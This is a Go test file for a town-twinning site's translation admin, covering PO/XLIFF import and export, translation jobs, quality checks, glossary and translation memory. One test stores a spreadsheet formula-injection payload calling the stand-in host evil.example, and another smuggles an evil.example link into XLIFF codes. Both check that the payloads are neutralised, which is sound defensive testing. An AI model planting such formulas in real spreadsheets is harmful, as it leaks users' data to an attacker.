package web_test

import (
	"encoding/csv"
	htmlpkg "html"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"twintowns/internal/exchange"
	"twintowns/internal/locale"
	"twintowns/internal/twinning"
)

// fillPO sets the msgstr of the entry whose msgctxt is unit.
func fillPO(t *testing.T, po, unit, text string) string {
	t.Helper()
	re := regexp.MustCompile(`(msgctxt "` + regexp.QuoteMeta(unit) + `"\nmsgid (?:".*"\n)+)msgstr (?:".*"\n)+`)
	if !re.MatchString(po) {
		t.Fatalf("no entry %s in\n%.3000s", unit, po)
	}
	return re.ReplaceAllString(po, "${1}msgstr \""+text+"\"\n")
}

// Finding 5: a byte order mark does not stop a PO or XLIFF file, whatever its name, and a file
// just under 8 MB is confirmed as it was previewed: the upload is not posted again.
func TestImportBOMAndLargeFiles(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	unit := unitOf(t, e, "siedlce", "pescantina", "name")
	bom := "\xEF\xBB\xBF"
	po := func() string { return s.export("siedlce", exportForm("pl", "it", "all", "po")).body }
	xlf := func() string { return s.export("siedlce", exportForm("pl", "it", "all", "xliff")).body }
	tests := []struct {
		name, file string
		body       func() string
		want       string
	}{
		{"PO with a BOM", "siedlce.po", func() string { return bom + fillPO(t, po(), unit, "Pescantina (uno)") }, "Pescantina (uno)"},
		{"PO with a BOM and no extension", "upload", func() string { return bom + fillPO(t, po(), unit, "Pescantina (due)") }, "Pescantina (due)"},
		{"XLIFF with a BOM", "x.xlf", func() string { return bom + string(agency(t, xlf(), map[string]string{unit: "Pescantina (tre)"})) }, "Pescantina (tre)"},
		{"XLIFF just under 8 MB", "big.xlf", func() string {
			f := string(agency(t, xlf(), map[string]string{unit: "Pescantina (quattro)"}))
			return strings.Replace(f, "</body>", strings.Repeat(" ", 8<<20-len(f)-64)+"</body>", 1)
		}, "Pescantina (quattro)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			body := tc.body()
			if len(body) > 8<<20 {
				t.Fatalf("%d bytes", len(body))
			}
			p := s.importFile("siedlce", tc.file, []byte(body))
			if p.StatusCode != http.StatusOK || len(p.ticked) != 1 {
				t.Fatalf("preview: %d %v\n%.3000s", p.StatusCode, p.ticked, p.body)
			}
			if res := s.confirm("siedlce", p.token, "publish", p.ticked...); res.StatusCode != http.StatusOK {
				t.Fatalf("confirm: %d\n%.2000s", res.StatusCode, res.body)
			}
			if got := fieldOf(t, s, e, "siedlce", "pescantina", "name_it"); got != tc.want {
				t.Errorf("imported %q", got)
			}
		})
	}
}

// Finding 6: a target the file marks new or needing translation is no translation and is not
// imported; a translation marked for review waits for a tick; exported translations that are
// complete say approved="yes", out-of-date ones do not.
func TestImportStatesAndApproved(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	xlf := s.export("siedlce", exportForm("pl", "it", "all", "xliff")).body
	units := map[string]string{
		unitOf(t, e, "siedlce", "pescantina", "name"): "needs-translation",
		unitOf(t, e, "siedlce", "dasing", "name"):     "new",
		unitOf(t, e, "siedlce", "sabinov", "name"):    "needs-review-translation",
	}
	for id, state := range units {
		re := regexp.MustCompile(`(?s)(<trans-unit id="` + id + `"[^>]*>\s*<source[^>]*>.*?</source>\s*)<target[^>]*>.*?</target>`)
		if !re.MatchString(xlf) {
			t.Fatalf("no unit %s", id)
		}
		xlf = re.ReplaceAllString(xlf, `${1}<target state="`+state+`">Testo `+state+`</target>`)
	}
	p := s.importFile("siedlce", "x.xlf", []byte(xlf))
	if p.StatusCode != http.StatusOK || len(p.ticked) != 0 || strings.Contains(p.body, "Testo new") || strings.Contains(p.body, "Testo needs-translation") ||
		!strings.Contains(p.body, "Testo needs-review-translation") || !strings.Contains(p.body, s.translator().T("admin.import.needs_review")) {
		t.Fatalf("preview: %d %v\n%s", p.StatusCode, p.ticked, p.body)
	}

	// approved="yes" on complete translations only
	e2 := newEnv(t)
	s2 := e2.staff(t, "anna@seinajoki.fi", "seinajoki", false)
	s2.login("anna@seinajoki.fi")
	path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e2, "seinajoki", "koszalin"))
	form := formOf(t, s2.get(path).body)
	form.Set("description_sv", form.Get("description_sv")+" Ny mening.")
	form.Set("action", "draft")
	s2.post(path, form)
	out := s2.export("seinajoki", exportForm("sv", "fi", "all", "xliff")).body
	unit := func(id string) string {
		return regexp.MustCompile(`<trans-unit id="` + id + `"[^>]*>`).FindString(out)
	}
	if u := unit(unitOf(t, e2, "seinajoki", "koszalin", "name")); !strings.Contains(u, `approved="yes"`) {
		t.Errorf("a complete translation is not approved: %s", u)
	}
	if u := unit(unitOf(t, e2, "seinajoki", "koszalin", "description")); u == "" || strings.Contains(u, `approved="yes"`) {
		t.Errorf("an out-of-date translation is approved: %q", u)
	}
}

// Finding 7: the export form starts from the site's default language, into the first
// language that has something missing or out of date.
func TestExportFormDefaults(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	page := s.get("/admin/sites/siedlce/translations").body
	selected := func(name string) string {
		sel := regexp.MustCompile(`(?s)<select id="` + name + `" name="` + name + `">.*?</select>`).FindString(page)
		m := regexp.MustCompile(`<option value="([a-z]+)" selected>`).FindStringSubmatch(sel)
		if m == nil {
			return ""
		}
		return m[1]
	}
	site, _ := e.db.SiteBySlug(t.Context(), "siedlce")
	if got := selected("from"); got != site.DefaultLang || got != "pl" {
		t.Errorf("source language %q, want the default pl", got)
	}
	if got := selected("to"); got == "" || got == "pl" {
		t.Errorf("target language %q", got)
	}
	if page := s.get("/admin/sites/siedlce/translations?lang=fi").body; !strings.Contains(page, `<option value="fi" selected>`) {
		t.Error("the filtered language is not the export's target")
	}
}

// Finding 11: review marks are language-scoped: a translator of Italian cannot mark a
// Finnish field checked through any form, and the parity report keeps it out of date.
func TestTranslatorCannotCheckOtherLanguages(t *testing.T) {
	e := newEnv(t)
	sites, _ := e.db.Sites(t.Context())
	tr := e.addUser(t, twinning.User{Email: "it@example.org", Role: twinning.RoleTranslator, Sites: []int64{sites[0].ID}, Langs: []string{"it"}})
	admin := e.staff(t, "boss@example.org", "", true)
	admin.login("boss@example.org")
	path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e, "seinajoki", "koszalin"))
	form := formOf(t, admin.get(path).body)
	form.Set("description_sv", form.Get("description_sv")+" Ny mening.")
	form.Set("reviewed_fi", "")
	form.Set("action", "draft")
	if res := admin.post(path, form); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("draft: %d", res.StatusCode)
	}
	full := formOf(t, admin.get(path).body)
	full.Set("checked_description_fi", "on")
	full.Set("action", "draft")
	if res := tr.post(path, full); res.StatusCode != http.StatusForbidden {
		t.Errorf("translator of Italian checking Finnish on the edit form: %d", res.StatusCode)
	}
	tf := formOf(t, tr.get(path+"/translate?to=it").body)
	tf.Set("checked_description_fi", "on")
	tf.Set("action", "draft")
	tr.post(path+"/translate?to=it", tf)
	csv := admin.get("/admin/sites/seinajoki/translations/parity.csv").body
	if !regexp.MustCompile(`city/\d+,[^\n]*,description,fi,outdated`).MatchString(csv) {
		t.Errorf("Finnish description no longer out of date:\n%s", csv)
	}
}

// Finding 10: a city name that is a spreadsheet formula reaches neither the open-data CSV
// nor the parity CSV as one.
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	s.lang = "it"
	formula := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	publishField(t, s, e, "siedlce", "pescantina", "name_it", formula)
	path := "/admin/sites/siedlce/cities/" + itoa(cityID(t, e, "siedlce", "dasing"))
	form := formOf(t, s.get(path).body)
	form.Set("name_it", "@SUM(1+1)")
	form.Set("description_it", form.Get("description_it")+" Nuova frase.")
	form.Set("description_pl", "")
	form.Set("action", "draft")
	if res := s.post(path, form); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("draft: %d\n%.2000s", res.StatusCode, res.body)
	}
	e.srv.Invalidate()
	for name, body := range map[string]string{
		"open data": e.get(t, siedlce, "/data/partnerships.csv").body,
		"parity":    s.get("/admin/sites/siedlce/translations/parity.csv").body,
	} {
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^-?[0-9.]+$`).MatchString(cell) {
					t.Errorf("%s: a cell starts a formula: %q", name, cell)
				}
				found = found || strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "@SUM")
			}
		}
		if !found {
			t.Errorf("%s: the names are not in the CSV:\n%s", name, body)
		}
	}
}

// Item 4: an export is a job (languages, who it went to, due date, words as agencies count
// them, status), listed on the overview; its file downloads again; an import names its job,
// moves it along (returned, imported) and warns when a newer job covers the same fields or
// the job was cancelled.
func TestTranslationJobs(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	pl := s.translator()
	// a bad due date comes back with the typed values
	form := exportForm("pl", "it", "all", "xliff")
	form.Set("sent_to", "Agenzia Roma")
	form.Set("due", "31.12.2026")
	if res := s.post("/admin/sites/siedlce/translations/export", form); res.StatusCode != http.StatusUnprocessableEntity ||
		!strings.Contains(res.body, pl.T("validation.date_format")) || !strings.Contains(res.body, `value="31.12.2026"`) ||
		!strings.Contains(res.body, `value="Agenzia Roma"`) {
		t.Fatalf("bad due date: %d", res.StatusCode)
	}
	form.Set("due", "2026-12-31")
	first := s.export("siedlce", form)
	if !strings.Contains(first.Header.Get("Content-Disposition"), "_job-1.xlf") {
		t.Errorf("file name %s", first.Header.Get("Content-Disposition"))
	}
	var words [3]int
	e.db.Pool.QueryRow(t.Context(), `SELECT coalesce(sum(words) FILTER (WHERE state = 'new'), 0),
		coalesce(sum(words) FILTER (WHERE state = 'outdated'), 0), coalesce(sum(words) FILTER (WHERE state = 'translated'), 0)
		FROM translation_job_units WHERE job_id = 1`).Scan(&words[0], &words[1], &words[2])
	if words[2] == 0 {
		t.Fatalf("no translated words counted: %v", words)
	}
	page := s.get("/admin/sites/siedlce/translations").body
	jobs := regexp.MustCompile(`(?s)<section aria-labelledby="jobs">.*?</section>`).FindString(page)
	for _, want := range []string{"Agenzia Roma", pl.Date(mustDate(t, "2026-12-31")), pl.T("admin.job.status.sent"),
		pl.Number(int64(words[0])), pl.Number(int64(words[2])), "/translations/jobs/1/file"} {
		if !strings.Contains(jobs, htmlEscape(want)) {
			t.Errorf("the job list lacks %q:\n%s", want, jobs)
		}
	}
	// the overview's words to translate into Italian are the job's (the whole site, from Polish)
	counts := regexp.MustCompile(`(?s)<th scope="row">` + pl.Language("it") + `</th>(.*?)</tr>`).FindStringSubmatch(page)
	if counts == nil || !strings.Contains(counts[1], "<td>"+pl.Number(int64(words[0]))+"</td><td>"+pl.Number(int64(words[1]))+"</td>") {
		t.Errorf("words per language on the overview: %v, job %v", counts, words)
	}
	if again := s.get("/admin/sites/siedlce/translations/jobs/1/file"); again.StatusCode != 200 || again.body != first.body {
		t.Errorf("the job's file again: %d", again.StatusCode)
	}

	second := s.export("siedlce", exportForm("pl", "it", "chosen", "xliff", "city/"+itoa(cityID(t, e, "siedlce", "pescantina"))))
	unit := unitOf(t, e, "siedlce", "pescantina", "name")
	p := s.importFile("siedlce", "x.xlf", agency(t, first.body, map[string]string{unit: "Pescantina (VR)"}))
	if !strings.Contains(p.body, htmlEscape(pl.T("admin.import.job", "Job", "1", "Date", pl.Date(time.Now())))) {
		t.Errorf("the preview does not name job 1")
	}
	if !strings.Contains(second.body, unit) || !strings.Contains(p.body, htmlEscape(pl.T("admin.import.newer_jobs", "Jobs", "2"))) {
		t.Errorf("no warning of the newer job 2")
	}
	if st := jobStatus(t, e, 1); st != "returned" {
		t.Errorf("job 1 after the upload: %s", st)
	}
	s.confirm("siedlce", p.token, "draft", p.ticked...)
	if st := jobStatus(t, e, 1); st != "imported" {
		t.Errorf("job 1 after the import: %s", st)
	}
	if res := s.post("/admin/sites/siedlce/translations/jobs/2/cancel", url.Values{}); res.StatusCode != http.StatusSeeOther || jobStatus(t, e, 2) != "cancelled" {
		t.Fatalf("cancel: %d %s", res.StatusCode, jobStatus(t, e, 2))
	}
	if p := s.importFile("siedlce", "x.xlf", []byte(second.body)); !strings.Contains(p.body, htmlEscape(pl.T("admin.import.job_cancelled"))) {
		t.Error("no warning that the job was cancelled")
	}
	// a translator of another language sees neither the jobs nor their files
	sites, _ := e.db.Sites(t.Context())
	tr := e.addUser(t, twinning.User{Email: "fi@example.org", Role: twinning.RoleTranslator, Sites: []int64{sites[1].ID}, Langs: []string{"fi"}})
	if res := tr.get("/admin/sites/siedlce/translations/jobs/1/file"); res.StatusCode != http.StatusForbidden {
		t.Errorf("translator of Finnish downloading an Italian job: %d", res.StatusCode)
	}
	if res := tr.post("/admin/sites/siedlce/translations/jobs/1/cancel", url.Values{}); res.StatusCode != http.StatusForbidden {
		t.Errorf("translator of Finnish cancelling an Italian job: %d", res.StatusCode)
	}
}

func jobStatus(t *testing.T, e *env, id int64) string {
	t.Helper()
	var st string
	e.db.Pool.QueryRow(t.Context(), `SELECT status FROM translation_jobs WHERE id = $1`, id).Scan(&st)
	return st
}

func mustDate(t *testing.T, s string) time.Time {
	t.Helper()
	d, err := time.Parse(time.DateOnly, s)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func htmlEscape(s string) string { return htmlpkg.EscapeString(s) }

// Every job status and every problem of inline codes has its message in every language.
func TestJobStatusesHaveNames(t *testing.T) {
	b, err := locale.Load()
	if err != nil {
		t.Fatal(err)
	}
	for _, lang := range b.Languages() {
		for _, st := range twinning.JobStatuses {
			if id := "admin.job.status." + string(st); b.For(lang).T(id) == id {
				t.Errorf("%s: no %s", lang, id)
			}
		}
		for _, p := range exchange.CodeProblems {
			if id := "admin.import.code." + string(p); b.For(lang).T(id) == id {
				t.Errorf("%s: no %s", lang, id)
			}
		}
	}
}

// Item 5: Markdown links travel as inline codes (XLIFF <bpt>/<ept>, PO {1}…{/1}) and come
// back exactly as exported, whatever a tool did inside them: export, edit as a CAT tool
// would, import, publish, and the public page links where the source linked. Broken codes
// are refused with the reason.
func TestInlineCodeRoundTrip(t *testing.T) {
	e := newEnv(t)
	s := e.staff(t, "anna@seinajoki.fi", "seinajoki", false)
	s.login("anna@seinajoki.fi")
	koszalin := "city/" + itoa(cityID(t, e, "seinajoki", "koszalin"))
	unit := koszalin + "/description"

	xlf := s.export("seinajoki", exportForm("sv", "it", "chosen", "xliff", koszalin)).body
	re := regexp.MustCompile(`(?s)(<trans-unit id="` + unit + `"[^>]*>\s*<source[^>]*>.*?</source>\s*)(<target[^>]*>.*?</target>)`)
	m := re.FindStringSubmatch(xlf)
	link := regexp.MustCompile(`<bpt id="(\d+)" ctype="link">\[</bpt>Wikipedia<ept id="\d+">`).FindStringSubmatch(xlf)
	if m == nil || link == nil || !strings.Contains(xlf, `](https://sv.wikipedia.org/wiki/Koszalin)</ept>`) {
		t.Fatalf("the link is not an inline code:\n%s", xlf)
	}
	id := link[1]
	// the CAT tool keeps the codes; what it holds inside the end code does not count
	filled := strings.Replace(xlf, m[2], `<target state="translated">Koszalin è una città della Polonia. Vedi <bpt id="`+id+
		`">[</bpt>Wikipedia<ept id="`+id+`">](https://evil.example)</ept>.</target>`, 1)
	p := s.importFile("seinajoki", "x.xlf", []byte(filled))
	// the shorter translation drops the numbers: a warning, so the unit waits for a tick
	fi := s.translator()
	if len(p.ticked) != 0 || !strings.Contains(p.body, "Vedi [Wikipedia](https://sv.wikipedia.org/wiki/Koszalin).") ||
		!strings.Contains(p.body, fi.T("admin.qa.numbers")) {
		t.Fatalf("preview: %v\n%s", p.ticked, p.body)
	}
	if res := s.confirm("seinajoki", p.token, "publish", unit); res.StatusCode != http.StatusOK {
		t.Fatalf("confirm: %d", res.StatusCode)
	}
	page := e.get(t, seinajoki, "/it/cities/koszalin").body
	if !strings.Contains(page, `Vedi <a href="https://sv.wikipedia.org/wiki/Koszalin">Wikipedia</a>.`) || strings.Contains(page, "evil.example") {
		t.Errorf("the public page does not link as the source:\n%s", page)
	}

	// PO: placeholders, documented in a note and declared to Weblate
	po := s.export("seinajoki", exportForm("sv", "it", "chosen", "po", koszalin)).body
	bundle, _ := locale.Load()
	it := bundle.For("it")
	if !strings.Contains(po, "{"+id+"}Wikipedia{/"+id+"}") || !strings.Contains(po, `placeholders:`) ||
		!strings.Contains(po, "#. "+it.T("admin.exchange.codes")) {
		t.Fatalf("PO without placeholders:\n%s", po)
	}
	good := fillPO(t, po, unit, "Koszalin, Polonia. Leggi su {"+id+"}Wikipedia{/"+id+"} di più.")
	p = s.importFile("seinajoki", "x.po", []byte(good))
	if !strings.Contains(p.body, "Leggi su [Wikipedia](https://sv.wikipedia.org/wiki/Koszalin) di più.") {
		t.Fatalf("PO preview: %v\n%s", p.ticked, p.body)
	}
	broken := fillPO(t, po, unit, "Koszalin, Polonia. Leggi su {"+id+"}Wikipedia di più.")
	p = s.importFile("seinajoki", "x.po", []byte(broken))
	reason := fi.T("admin.import.code.unpaired", "Code", "{"+id+"}")
	if len(p.ticked) != 0 || !strings.Contains(p.body, htmlEscape(reason)) || !strings.Contains(p.body, `value="`+unit+`" disabled`) {
		t.Fatalf("broken code: %v\n%s", p.ticked, p.body)
	}
}

// Finding 8 and item 5: an out-of-date unit carries the source it was translated from (XLIFF
// alt-trans of type previous-version, PO "#| msgid"); notes are in the target language,
// whoever exports; each unit says how long its target may be.
func TestExportForCATTools(t *testing.T) {
	e := newEnv(t)
	s := e.staff(t, "anna@seinajoki.fi", "seinajoki", false)
	s.lang = "pl" // the staff member's language is not the target's
	s.login("anna@seinajoki.fi")
	path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e, "seinajoki", "koszalin"))
	form := formOf(t, s.get(path).body)
	old := form.Get("description_sv")
	form.Set("description_sv", strings.Replace(old, "Staden har 106 000 invånare.", "Staden har 107 000 invånare.", 1))
	form.Set("action", "draft")
	if res := s.post(path, form); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("draft: %d", res.StatusCode)
	}
	unit := unitOf(t, e, "seinajoki", "koszalin", "description")
	xlf := s.export("seinajoki", exportForm("sv", "fi", "missing-outdated", "xliff")).body
	tu := regexp.MustCompile(`(?s)<trans-unit id="` + unit + `".*?</trans-unit>`).FindString(xlf)
	alt := regexp.MustCompile(`(?s)<alt-trans[^>]*alttranstype="previous-version"[^>]*>\s*<source[^>]*>(.*?)</source>`).FindStringSubmatch(tu)
	if alt == nil || !strings.Contains(alt[1], "Staden har 106 000 invånare.") || strings.Contains(alt[1], "107 000") {
		t.Errorf("no previous source in:\n%s", tu)
	}
	if !strings.Contains(tu, `maxwidth="20000" size-unit="char"`) {
		t.Errorf("no length limit: %s", tu)
	}
	b, _ := locale.Load()
	fi := b.For("fi")
	note := fi.T("admin.exchange.note", "Type", fi.T("admin.type.city"), "Entry", "Koszalin", "Field", fi.T("admin.field.description"),
		"Where", fi.T("admin.exchange.where.city"))
	if !strings.Contains(tu, htmlEscape(note)) {
		t.Errorf("the note is not in Finnish (%q):\n%s", note, tu)
	}
	po := s.export("seinajoki", exportForm("sv", "fi", "missing-outdated", "po")).body
	entry := regexp.MustCompile(`(?s)(?:#.*?\n)+msgctxt "` + unit + `"`).FindString(po)
	if !strings.Contains(entry, `#| msgid "`) || !strings.Contains(entry, "106 000") || !strings.Contains(entry, "max-length:20000") ||
		!strings.Contains(entry, "#, fuzzy") {
		t.Errorf("PO entry without previous msgid, length or fuzzy:\n%s", entry)
	}
}

// Item 6: quality checks on the translator's screen and the glossary administrators edit:
// the screen shows what the checks find; a changed field with findings is saved only once the
// person accepts them; the glossary starts from the kinds of partnership.
func TestQualityChecksAndGlossary(t *testing.T) {
	e := newEnv(t)
	root := e.staff(t, "root@example.org", "", true)
	root.lang = "sv"
	root.login("root@example.org")
	sv := root.translator()
	gl := root.get("/admin/sites/seinajoki/translations/glossary")
	if gl.StatusCode != 200 || !strings.Contains(gl.body, `value="vänort"`) || !strings.Contains(gl.body, `value="yhteistyökaupunki"`) {
		t.Fatalf("glossary: %d\n%s", gl.StatusCode, gl.body)
	}
	form := formOf(t, gl.body)
	form.Set("term_2_sv", "Östersjökusten")
	form.Set("term_2_fi", "Itämeren rannikko")
	form.Set("term_3_fi", strings.Repeat("x", 201))
	if res := root.post("/admin/sites/seinajoki/translations/glossary", form); res.StatusCode != http.StatusUnprocessableEntity ||
		!strings.Contains(res.body, `value="Östersjökusten"`) {
		t.Fatalf("a term too long: %d", res.StatusCode)
	}
	form.Del("term_3_fi")
	if res := root.post("/admin/sites/seinajoki/translations/glossary", form); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("save glossary: %d\n%s", res.StatusCode, res.body)
	}
	editor := e.staff(t, "anna@seinajoki.fi", "seinajoki", false)
	editor.login("anna@seinajoki.fi")
	if res := editor.get("/admin/sites/seinajoki/translations/glossary"); res.StatusCode != http.StatusForbidden {
		t.Errorf("an editor opening the glossary: %d", res.StatusCode)
	}

	path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e, "seinajoki", "koszalin")) + "/translate?to=fi&from=sv"
	page := root.get(path)
	tf := formOf(t, page.body)
	desc := tf.Get("description_fi")
	changed := strings.Replace(strings.Replace(desc, "Itämeren rannikolta", "merenrannalta", 1), "106 000", "160 000", 1)
	if changed == desc {
		t.Fatalf("unexpected text %q", desc)
	}
	tf.Set("description_fi", changed)
	tf.Set("action", "draft")
	res := root.post(path, tf)
	for _, want := range []string{sv.T("admin.qa.not_saved"), sv.T("admin.qa.numbers"), "106000, 160000", sv.T("admin.qa.glossary"),
		htmlEscape("Östersjökusten → Itämeren rannikko"), sv.T("admin.qa.accept")} {
		if !strings.Contains(res.body, want) {
			t.Errorf("the refused save does not say %q", want)
		}
	}
	if res.StatusCode != http.StatusUnprocessableEntity || formOf(t, root.get(path).body).Get("description_fi") != desc {
		t.Fatalf("saved despite the warnings: %d", res.StatusCode)
	}
	tf.Set("qa_accept", "on")
	if res := root.post(path, tf); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("accepted warnings: %d", res.StatusCode)
	}
	if again := root.get(path); !strings.Contains(again.body, sv.T("admin.qa.numbers")) || formOf(t, again.body).Get("description_fi") != changed {
		t.Error("the screen does not show the checks of the saved translation")
	}
}

// Item 7: the translation memory: the translator's screen offers the site's translations of
// similar sources with their match; an export carries the exact ones as alt-trans proposals.
func TestTranslationMemory(t *testing.T) {
	e := newEnv(t)
	s := e.staff(t, "anna@seinajoki.fi", "seinajoki", false)
	s.login("anna@seinajoki.fi")
	set := func(slug string, values map[string]string) {
		t.Helper()
		path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e, "seinajoki", slug))
		form := formOf(t, s.get(path).body)
		for k, v := range values {
			form.Set(k, v)
		}
		form.Set("action", "draft")
		if res := s.post(path, form); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("%s: %d\n%s", slug, res.StatusCode, res.body)
		}
	}
	set("sopron", map[string]string{"summary_sv": "Staden ligger vid gränsen mot Österrike och är känd för sitt vin.",
		"summary_it": "La città si trova al confine con l'Austria ed è nota per il suo vino."})
	set("koszalin", map[string]string{"summary_sv": "Staden ligger vid gränsen mot Tyskland och är känd för sitt vin.", "summary_it": ""})
	page := s.get("/admin/sites/seinajoki/cities/" + itoa(cityID(t, e, "seinajoki", "koszalin")) + "/translate?to=it&from=sv")
	fi := s.translator()
	memory := regexp.MustCompile(`(?s)<details class="memory">.*?</details>`).FindString(page.body)
	pct := regexp.MustCompile(`(\d+) %`).FindStringSubmatch(memory)
	if !strings.Contains(memory, htmlEscape("La città si trova al confine con l'Austria ed è nota per il suo vino.")) || pct == nil ||
		pct[1] == "100" || !strings.Contains(memory, fi.N("admin.memory.title", 1)) {
		t.Fatalf("no suggestion of the memory:\n%s", memory)
	}
	// the very same source: an exact match in the export
	set("koszalin", map[string]string{"summary_sv": "Staden ligger vid gränsen mot Österrike och är känd för sitt vin.", "summary_it": ""})
	xlf := s.export("seinajoki", exportForm("sv", "it", "missing-outdated", "xliff")).body
	tu := regexp.MustCompile(`(?s)<trans-unit id="` + unitOf(t, e, "seinajoki", "koszalin", "summary") + `".*?</trans-unit>`).FindString(xlf)
	if !strings.Contains(tu, `<alt-trans match-quality="100"`) || !strings.Contains(tu, htmlEscape("ed è nota per il suo vino.")) {
		t.Errorf("no exact match in the export:\n%s", tu)
	}
}
